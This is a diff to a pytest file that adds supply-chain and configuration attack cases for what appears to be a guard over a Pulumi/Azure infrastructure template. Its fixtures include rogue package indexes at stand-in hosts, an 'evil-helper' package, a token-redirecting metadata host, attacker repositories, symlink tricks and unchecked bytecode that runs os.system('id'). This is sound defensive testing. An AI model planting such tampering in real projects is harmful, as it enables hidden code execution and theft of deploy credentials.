@@ -15,14 +15,16 @@ from __future__ import annotations
 
 import json
 import os
+import py_compile
 import re
 import shutil
+import sys
 from collections.abc import Callable
 from dataclasses import dataclass
 from pathlib import Path
 
 import pytest
-from cli_helpers import blueprint
+from cli_helpers import blueprint, git
 
 from blueprint_infra import policies
 
@@ -57,6 +59,30 @@ def replace(path: Path, old: str, new: str) -> None:
     text = path.read_text(encoding="utf-8")
     assert old in text, f"{old!r} not in {path}"
     path.write_text(text.replace(old, new), encoding="utf-8")
+
+
+def commit_virtualenv(project: Path, folder: Path) -> None:
+    """A virtualenv with a pip.conf that picks the index, committed as an attacker would."""
+    (project / folder).mkdir(parents=True)
+    (project / folder / "pip.conf").write_text("[global]\nindex-url = https://pypi.example/\n")
+    git(project, "init", "-q")
+    git(project, "add", "-f", str(folder))
+
+
+def link_into_code(project: Path, name: str) -> None:
+    """Move a program file into code/ (owned by the data scientists) and link it back."""
+    moved = project / "code" / name.replace("/", "-")
+    shutil.move(project / INFRA / name, moved)
+    os.symlink(os.path.relpath(moved, (project / INFRA / name).parent), project / INFRA / name)
+
+
+def bytecode(path: Path, source: str) -> None:
+    """`source` compiled to a .pyc that Python runs without checking it against any source."""
+    source_file = path.with_name("source_of_" + path.stem.replace(".", "_") + ".py")
+    source_file.write_text(source)
+    py_compile.compile(str(source_file), cfile=str(path),
+                       invalidation_mode=py_compile.PycInvalidationMode.UNCHECKED_HASH)
+    source_file.unlink()
 
 
 @dataclass(frozen=True)
@@ -158,6 +184,53 @@ ATTACKS = [
     Attack("a stack file imports a Pulumi ESC environment", lambda p: append(
         p / INFRA / "Pulumi.prod.yaml", "environment:\n  - team/prod-overrides\n"),
         "environment:"),
+    Attack("the dev stack grants a human Contributor on prod's group", lambda p: program(p, (
+        RUN_BLUEPRINT + "import pulumi\nimport pulumi_azure_native as azn\n"
+        "if pulumi.get_stack() == 'dev':\n"
+        "    azn.authorization.RoleAssignment('in-prod',\n"
+        "        principal_id='44444444-4444-4444-4444-444444444444', principal_type='User',\n"
+        "        role_definition_id='b24988ac-6180-42a0-ab88-20f7382dd24c',\n"
+        f"        scope='/subscriptions/00000000-0000-0000-0000-000000000000/resourceGroups/"
+        f"rg-{SLUG}-prod')\n")), "grants-in-own-environment", "check"),
+    # --- provider and engine config the program never reads -----------------------------------
+    Attack("the provider's metadata host (where the deploy token goes)", lambda p: append(
+        p / INFRA / "Pulumi.prod.yaml", '  azure-native:metadataHost: "arm.example"\n'),
+        "azure-native:metadataHost"),
+    Attack("the provider's subscription", lambda p: append(
+        p / INFRA / "Pulumi.prod.yaml",
+        '  azure-native:subscriptionId: "11111111-1111-1111-1111-111111111111"\n'),
+        "azure-native:subscriptionId"),
+    Attack("the engine's default providers", lambda p: append(
+        p / INFRA / "Pulumi.prod.yaml", '  pulumi:disable-default-providers: ["*"]\n'),
+        "pulumi:disable-default-providers"),
+    Attack("the bootstrap's provider config", lambda p: append(
+        p / INFRA / "bootstrap" / "Pulumi.platform.yaml",
+        '  azure-native:auxiliaryTenantIds: ["11111111-1111-1111-1111-111111111111"]\n'),
+        "azure-native:auxiliaryTenantIds", "check"),
+    Attack("a setting as an encrypted value no preview can read", lambda p: replace(
+        p / INFRA / "Pulumi.prod.yaml", f'{SLUG}:publicNetworkAccess: "Disabled"',
+        f"{SLUG}:publicNetworkAccess:\n    secure: AAABAKZ1bm55"), "secure value"),
+    # --- symbolic links: the file lives where CODEOWNERS gives it to others ------------------
+    Attack("__main__.py a link into code/", lambda p: link_into_code(p, "__main__.py"),
+           "__main__.py: is a symbolic link"),
+    Attack("a stack file a link into code/", lambda p: link_into_code(p, "Pulumi.prod.yaml"),
+           "Pulumi.prod.yaml: is a symbolic link"),
+    Attack("the policy pack's program a link into code/", lambda p: link_into_code(
+        p, "policy_pack/__main__.py"), "policy_pack/__main__.py: plan: is a symbolic link",
+        "check"),
+    Attack(".cloud/infra a link into code/", lambda p: (
+        shutil.move(p / INFRA, p / "code" / "infra"),
+        os.symlink("../code/infra", p / INFRA)), ".cloud/infra: is a symbolic link"),
+    # --- the bootstrap's stack: whom the deploy identities trust --------------------------------
+    Attack("the bootstrap trusts another repository", lambda p: replace_regex(
+        p / INFRA / "bootstrap" / "Pulumi.platform.yaml", r'(:repository: )"[^"]*"',
+        r'\1"attacker/churn"'), "repository is 'attacker/churn'", "check"),
+    Attack("the bootstrap trusts another CI provider", lambda p: replace(
+        p / INFRA / "bootstrap" / "Pulumi.platform.yaml", 'ciProvider: "github"',
+        'ciProvider: "azure-devops"'), "ciProvider is 'azure-devops'", "check"),
+    Attack("the bootstrap creates identities for other environments", lambda p: replace(
+        p / INFRA / "bootstrap" / "Pulumi.platform.yaml", '    - "prod"\n',
+        '    - "prod"\n    - "prod2"\n'), "environments is", "check"),
     # --- what pulumi installs and the rules it is judged by -----------------------------------
     Attack("requirements from another index", lambda p: append(
         p / INFRA / "requirements.txt", "--extra-index-url https://pypi.example/simple\n"),
@@ -170,9 +243,39 @@ ATTACKS = [
         p / INFRA / "requirements.txt", "mlops-blueprint @ git+",
         "mlops-blueprint==0.2.0\n# was "),
         "requirements.txt"),
+    Attack("the blueprint from an index under another spelling, the pin skipped by a marker",
+           lambda p: replace_regex(
+               p / INFRA / "requirements.txt", r"^(mlops-blueprint @ git\+\S+)$",
+               'MLOps.Blueprint==9.9 ; python_version >= "3"\n\\1 ; python_version < "3"'),
+           "requirements.txt"),
     Attack("the blueprint at a branch, not a commit", lambda p: replace_regex(
         p / INFRA / "requirements.txt", r"@[0-9a-f]{40}$", "@main"),
         "requirements.txt"),
+    Attack("a package beside the blueprint (its .pth runs in pulumi up)", lambda p: append(
+        p / INFRA / "requirements.txt", "evil-helper==1.0\n"), "evil-helper"),
+    Attack("a package beside the policy SDK in the pack", lambda p: append(
+        p / INFRA / "policy_pack" / "requirements.txt", "evil-helper==1.0\n"),
+        "policy_pack/requirements.txt", "check"),
+    Attack("the blueprint from another repository than the template's", lambda p: (
+        replace_regex(p / ".copier-answers.yml", r"^_src_path: .*$",
+                      "_src_path: https://github.com/contoso/mlops-blueprint.git"),
+        replace_regex(p / INFRA / "requirements.txt", r"git\+https://\S+@(?=[0-9a-f]{40}$)",
+                      "git+https://github.com/attacker/mlops-blueprint.git@")),
+        "github.com/attacker"),
+    Attack("a virtualenv committed beside the program (its pip.conf picks the index)",
+           lambda p: commit_virtualenv(p, INFRA / "venv"), ".cloud/infra/venv"),
+    Attack("a virtualenv committed in the policy pack", lambda p: commit_virtualenv(
+        p, INFRA / "policy_pack" / "venv"), "policy_pack/venv", "check"),
+    Attack("an extension module shadows the blueprint package", lambda p: (
+        p / INFRA / "blueprint_infra.abi3.so").write_bytes(b"\x7fELF"), "blueprint_infra.abi3.so"),
+    Attack("a package of bytecode only shadows the blueprint package", lambda p: (
+        (p / INFRA / "blueprint_infra").mkdir(),
+        bytecode(p / INFRA / "blueprint_infra" / "__init__.pyc", "x = 1\n")),
+        ".cloud/infra/blueprint_infra"),
+    Attack("unchecked bytecode in __pycache__ replaces __main__.py", lambda p: (
+        (p / INFRA / "__pycache__").mkdir(exist_ok=True),
+        bytecode(p / INFRA / "__pycache__" / f"__main__.{sys.implementation.cache_tag}.pyc",
+                 "import os\nos.system('id')\n" + RUN_BLUEPRINT)), "__main__."),
     Attack("the policy pack weakened", lambda p: append(
         p / INFRA / "policy_pack" / "__main__.py", "\nPOLICIES = []\n"),
         "policy_pack/__main__.py", "check"),
